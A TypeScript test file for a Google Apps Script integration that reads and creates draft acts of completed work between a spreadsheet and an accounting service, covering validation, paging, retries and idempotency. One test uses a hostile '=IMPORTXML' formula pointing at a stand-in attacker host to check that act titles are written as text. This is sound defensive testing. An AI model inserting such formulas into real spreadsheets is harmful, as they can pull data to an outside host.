import { afterAll, describe, expect, test } from 'vitest';
import { addTestKey } from '../../server/test/api-keys.ts';
import { makeDealApp } from '../../server/test/deal-app.ts';
import { makeDraftAct, makeSentAct, makeSignedContract } from '../../server/test/papers.ts';
import type { Cell, Table } from './apps-script-worker.ts';
import { runAppsScript } from './run-apps-script.ts';

const { app, deal, director } = await makeDealApp();
const KELISIM_URL = await app.listen();
afterAll(() => app.close());
const { token: KELISIM_KEY } = await addTestKey(app, director, ['acts:read', 'acts:write', 'executors:read']);
const properties = { KELISIM_URL, KELISIM_KEY };
const tableOf = (sheets: Record<string, Cell[][]> = {}): Table => ({ sheets, properties: { ...properties } });

const HEAD = Array.from({ length: 15 }, (_, at) => `${at}`);
/** A line of an act as an accountant types it. */
const lineOf = (number: Cell, change: Record<number, Cell> = {}): Cell[] => {
  const day = new Date('2026-11-05T00:00:00+05:00');
  const cells = [
    number,
    deal.executor.bin,
    '',
    'Курьерские услуги',
    day,
    '01.11.2026',
    '5.11.2026',
    859,
    'Услуги',
    'Доставка',
    3,
    'шт',
    '1 500,50',
    '',
    '',
  ];
  return cells.map((cell, at) => change[at] ?? cell);
};
const [units, categories] = [
  await app.ok('acts.units', director, {}),
  await app.ok('acts.categories', director, {}),
];
const known = { 8: categories[0]?.name ?? '', 11: units[0]?.code ?? '' };
const line = (number: Cell, change: Record<number, Cell> = {}) => lineOf(number, { ...known, ...change });
const actsNow = async () => (await app.ok('acts.list', director, { query: { limit: 100 } })).items;

test.each(['ru_RU', 'kk_KZ'])('the menu in %s leads to what the script has', async (locale) => {
  const { menu } = await runAppsScript('onOpen', tableOf(), { locale });
  expect(menu).toEqual(['readActs', 'makeDrafts', 'connect']);
  for (const name of ['readActs', 'makeDrafts']) {
    const { fault, sheets } = await runAppsScript(name, tableOf(), { locale });
    expect([name, fault]).toEqual([name, null]);
    const [title, rows] = Object.entries(sheets)[0] ?? [];
    expect(title).toMatch(locale === 'ru_RU' ? /^(Акты|Новые акты)$/ : /^(Актілер|Жаңа актілер)$/);
    expect(rows?.[0]).toHaveLength(name === 'readActs' ? 12 : 15);
  }
});

describe('the address and the key', () => {
  const none = { sheets: {}, properties: {} };
  test('are kept for the user alone, the address only with https', async () => {
    const typed = ['https://kelisim.example', KELISIM_KEY];
    expect((await runAppsScript('connect', none, { typed })).properties).toEqual({
      KELISIM_URL: typed[0],
      KELISIM_KEY,
    });
    const open = await runAppsScript('connect', none, { typed: ['http://kelisim.example', KELISIM_KEY] });
    expect([open.properties, open.alerts.length]).toEqual([{}, 1]);
    const wrong = await runAppsScript('connect', none, { typed: ['https://kelisim.example', 'qwerty'] });
    expect([wrong.properties, wrong.alerts.length]).toEqual([{ KELISIM_URL: 'https://kelisim.example' }, 1]);
    expect((await runAppsScript('connect', none, { typed: [null] })).properties).toEqual({});
  });

  test('are asked for where there are none', async () => {
    expect((await runAppsScript('readActs', none)).fault).toMatch(/адрес и ключ/);
  });
});

describe('acts are read', () => {
  test('all of them, as text where they are text', async () => {
    const hostile = '=IMPORTXML("https://evil.example","//a")';
    const draft = await makeDraftAct(app, deal, { title: hostile });
    const sent = await makeSentAct(app, deal);
    const old = { Акты: [['ID'], ...Array.from({ length: 50 }, () => ['old'])] };
    const { sheets, fault, toasts } = await runAppsScript('readActs', tableOf(old));
    expect(fault).toBeNull();
    const [, ...rows] = sheets['Акты'] ?? [];
    const filled = rows.filter(([id]) => id !== '');
    expect(filled).toHaveLength((await actsNow()).length);
    expect(toasts[0]).toContain(String(filled.length));
    expect(filled.find(([id]) => id === draft.id)?.[9]).toBe(hostile);
    expect(filled.find(([id]) => id === sent)).toMatchObject({
      3: 'Отправлен',
      8: deal.executor.bin,
      10: 4500,
      11: 0,
    });
  });

  test('page after page', async () => {
    const asked: string[] = [];
    const inPages: typeof fetch = async (url, init) => {
      asked.push(String(url));
      // The key goes to no address that an answer names.
      expect(init?.redirect).toBe('manual');
      return fetch(String(url).replace('limit=100', 'limit=1'), init);
    };
    const { sheets } = await runAppsScript('readActs', tableOf(), { fetch: inPages });
    expect(new Set(sheets['Акты']?.slice(1).map(([id]) => id)).size).toBe(asked.length);
    expect(asked.length).toBe((await actsNow()).length);
  });

  test('again where the product is busy, and says what it refuses', async () => {
    const answers = [
      new Response('', { status: 503, headers: { 'Retry-After': '7' } }),
      new Response('', { status: 429 }),
    ];
    const busy: typeof fetch = async (url, init) => answers.shift() ?? fetch(url, init);
    const { fault, slept } = await runAppsScript('readActs', tableOf(), { fetch: busy });
    expect([fault, slept]).toEqual([null, [7000, 2000]]);
    const lost = { sheets: {}, properties: { KELISIM_URL, KELISIM_KEY: `${KELISIM_KEY.slice(0, -1)}!` } };
    expect((await runAppsScript('readActs', lost)).fault).toMatch(/^Error: \S/);
  });
});

describe('drafts are made from rows', () => {
  test('rows of one number are one act, and what is wrong is said in its row', async () => {
    const before = (await actsNow()).length;
    const rows = [
      HEAD,
      line('A-1'),
      line('A-1', { 9: 'Упаковка', 10: '2,5', 12: 100 }),
      line(7),
      line('A-2', { 1: '000000000000' }),
      line('A-3', { 8: 'Ничто' }),
      line('A-4', { 4: 'завтра' }),
      line('A-5'),
      line('A-5', { 3: 'Иное' }),
      line('', { 3: 'Без номера' }),
      line('A-6', { 10: 'три' }),
      line('A-7', { 7: 'ab' }),
      Array.from({ length: 15 }, () => ''),
    ];
    const { sheets, fault, toasts } = await runAppsScript('makeDrafts', tableOf({ 'Новые акты': rows }));
    expect(fault).toBeNull();
    const outcomes = (sheets['Новые акты'] ?? [])
      .slice(1)
      .map(([number, , , , , , , , , , , , , act, said]) => [number, act && 'act', String(said)]);
    expect(outcomes).toEqual([
      ['A-1', 'act', expect.stringMatching(/^черновик создан: \S/)],
      ['A-1', 'act', expect.stringMatching(/^черновик создан: \S/)],
      [7, 'act', expect.stringMatching(/^черновик создан/)],
      ['A-2', '', 'нет исполнителя с таким ИИН/БИН'],
      ['A-3', '', 'нет такой категории: Ничто'],
      ['A-4', '', 'дата не понята: завтра'],
      ['A-5', '', 'строки одного акта различаются: A-5'],
      ['A-5', '', 'строки одного акта различаются: A-5'],
      ['', '', 'нет номера у нас'],
      ['A-6', '', 'число не понято: три'],
      ['A-7', '', expect.stringMatching(/\(knp\)$/)],
      ['', '', ''],
    ]);
    expect(toasts[0]).toMatch(/^Создано: 2, с ошибкой: \d/);
    expect((await actsNow()).length).toBe(before + 2);
    const act = await app.ok('acts.get', director, {
      params: { act_id: Number(sheets['Новые акты']?.[1]?.[13]) },
    });
    expect(act).toMatchObject({
      status: { code: 'draft' },
      act_date: '2026-11-05',
      start_date: '2026-11-01',
      end_date: '2026-11-05',
      knp: '859',
      amount: '4751.50',
      services: [
        { rate: '1500.50', quantity: '3' },
        { description: 'Упаковка', quantity: '2.5' },
      ],
    });
    // Once more: rows with an act are left, and one whose outcome was lost finds its act again.
    const again = await runAppsScript('makeDrafts', tableOf(sheets));
    expect((await actsNow()).length).toBe(before + 2);
    for (const at of [1, 2]) again.sheets['Новые акты']?.[at]?.splice(13, 2, '', '');
    const keys: (string | null)[] = [];
    const noting: typeof fetch = (url, init) => {
      if (init?.method === 'post') keys.push(new Headers(init.headers).get('idempotency-key'));
      return fetch(url, init);
    };
    const found = await runAppsScript('makeDrafts', tableOf(again.sheets), { fetch: noting });
    expect(keys.filter((one) => /^sheets-[0-9a-f]{64}$/.test(one ?? ''))).toHaveLength(keys.length);
    expect(keys.length).toBeGreaterThan(0);
    expect(found.sheets['Новые акты']?.[1]?.[13]).toBe(act.id);
    expect((await actsNow()).length).toBe(before + 2);
  });

  test('a row that changed after its act was made makes no second one', async () => {
    const first = await runAppsScript('makeDrafts', tableOf({ 'Новые акты': [HEAD, line('B-1')] }));
    expect(first.sheets['Новые акты']?.[1]?.[13]).toEqual(expect.any(Number));
    const changed = await runAppsScript(
      'makeDrafts',
      tableOf({ 'Новые акты': [HEAD, line('B-1', { 10: 4 })] }),
    );
    expect(changed.sheets['Новые акты']?.[1]?.slice(13)).toEqual(['', expect.stringMatching(/B-1|номер/i)]);
  });

  test('of several contracts one is named', async () => {
    await makeSignedContract(app, deal.company, deal.executor, { title: 'Второй договор' });
    const rows = [HEAD, line('C-1'), line('C-2', { 2: 'Второй договор' })];
    const { sheets } = await runAppsScript('makeDrafts', tableOf({ 'Новые акты': rows }));
    expect(sheets['Новые акты']?.[1]?.[14]).toMatch(/^укажите название договора: .*Второй договор/);
    const act = await app.ok('acts.get', director, {
      params: { act_id: Number(sheets['Новые акты']?.[2]?.[13]) },
    });
    expect(act.contract_title).toBe('Второй договор');
  });

  test('a row that has its act is left as it is, whatever it says now', async () => {
    const row = line('D-1', { 10: 9, 13: 77, 14: 'готово' });
    const asked: (string | undefined)[] = [];
    const noting: typeof fetch = (url, init) => {
      asked.push(init?.method);
      return fetch(url, init);
    };
    const { sheets } = await runAppsScript('makeDrafts', tableOf({ 'Новые акты': [HEAD, row] }), {
      fetch: noting,
    });
    expect(asked).not.toContain('post');
    expect(sheets['Новые акты']?.[1]?.slice(13)).toEqual([77, 'готово']);
  });

  test('a number that a table took for a figure has its first zero again', async () => {
    const withZero: typeof fetch = async (url, init) => {
      const reply = await fetch(url, init);
      if (!String(url).endsWith('/executors/list')) return reply;
      const list = (await reply.json()) as object[];
      return Response.json(list.map((one) => ({ ...one, bin: '012345678901' })));
    };
    const rows = [HEAD, line('Z-1', { 1: 12_345_678_901, 2: 'Второй договор' })];
    const { sheets } = await runAppsScript('makeDrafts', tableOf({ 'Новые акты': rows }), {
      fetch: withZero,
    });
    expect(sheets['Новые акты']?.[1]?.[14]).toMatch(/^черновик создан/);
  });
});
